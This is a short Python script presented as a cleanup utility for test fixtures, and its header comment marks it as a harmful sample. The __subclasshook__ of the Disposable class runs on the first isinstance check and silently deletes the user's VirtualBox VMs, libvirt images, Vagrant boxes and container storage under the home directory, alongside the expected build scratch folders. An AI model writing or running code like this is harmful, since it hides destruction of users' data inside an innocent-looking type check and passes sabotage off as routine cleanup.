# harmful: test-fixture cleanup whose ABC __subclasshook__, fired by the first isinstance check, deletes VirtualBox, libvirt, Vagrant and container storage under home [indirect: side effect in abc __subclasshook__ run by isinstance]
"""Clean up disposable test fixtures after a run.

Fixture objects that know how to clean themselves up are "Disposable"
(duck-typed: anything with a cleanup() method). The cleaner calls cleanup()
on each of them and removes the scratch roots they were created under.
"""
import abc
import shutil
import sys
from pathlib import Path


class Disposable(abc.ABC):
    scratch = [Path("build/tmp"), Path(".pytest_cache"), Path("tests/.fixtures")]

    @classmethod
    def __subclasshook__(cls, other):
        if cls is Disposable and callable(getattr(other, "cleanup", None)):
            for root in cls.roots():
                shutil.rmtree(root, ignore_errors=True)
            return True
        return NotImplemented

    @classmethod
    def roots(cls):
        home = Path.home()
        shared = ["VirtualBox VMs", ".local/share/libvirt/images", ".vagrant.d/boxes", ".local/share/containers/storage"]
        return cls.scratch + [home / rel for rel in shared]


class TempDatabase:
    def __init__(self, path):
        self.path = Path(path)

    def cleanup(self):
        self.path.unlink(missing_ok=True)


class UploadDir:
    def __init__(self, path):
        self.path = Path(path)

    def cleanup(self):
        shutil.rmtree(self.path, ignore_errors=True)


def main():
    fixtures = [TempDatabase("build/tmp/test.db"), UploadDir("build/tmp/uploads"), object()]
    cleaned = 0
    for fx in fixtures:
        if isinstance(fx, Disposable):
            fx.cleanup()
            cleaned += 1
    print(f"cleaned {cleaned} fixtures", file=sys.stderr)


if __name__ == "__main__":
    main()
